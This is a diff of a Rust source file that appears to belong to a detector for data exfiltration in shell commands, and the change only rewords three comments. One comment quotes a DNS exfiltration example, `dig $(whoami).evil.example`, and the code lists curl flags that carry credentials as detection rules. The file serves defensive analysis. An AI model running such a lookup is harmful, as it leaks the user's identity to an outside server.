@@ -71,7 +71,7 @@ pub(super) fn look(views: &[View<'_>], groups: &[Redirected], found: &mut Found)
         asked |= statements(view, found);
     }
     if asked {
-        // What is echoed into a client is not told apart from what is echoed elsewhere on the line.
+        // The text echoed into a client is not distinguished from text echoed elsewhere on the line.
         let echoed =
             views.iter().filter(|view| matches!(view.name.as_str(), "echo" | "printf" | "cat"));
         found.sql.extend(echoed.flat_map(|view| view.texts().map(str::to_owned)));
@@ -108,7 +108,7 @@ fn printed(view: &View<'_>, groups: &[Redirected]) -> Option<String> {
     keeps.then(|| name.to_owned())
 }
 
-/// Variables that are named like secrets, in what is sent. Headers and `-u` are how one signs in.
+/// Variables that are named like secrets, in what is sent. Headers and `-u` authenticate.
 fn variables(view: &View<'_>, found: &mut Found) {
     let signs = ["-H", "--header", "-u", "--user", "--oauth2-bearer", "--password", "-b"];
     let mut args = view.args.iter().map(String::as_str);
@@ -137,7 +137,7 @@ fn secret_variables(text: &str) -> Vec<String> {
     names.filter(secret).map(str::to_owned).collect()
 }
 
-/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to whoever answers.
+/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to the server that answers.
 fn names(view: &View<'_>, found: &mut Found) {
     if !RESOLVERS.contains(&view.name.as_str()) {
         return;
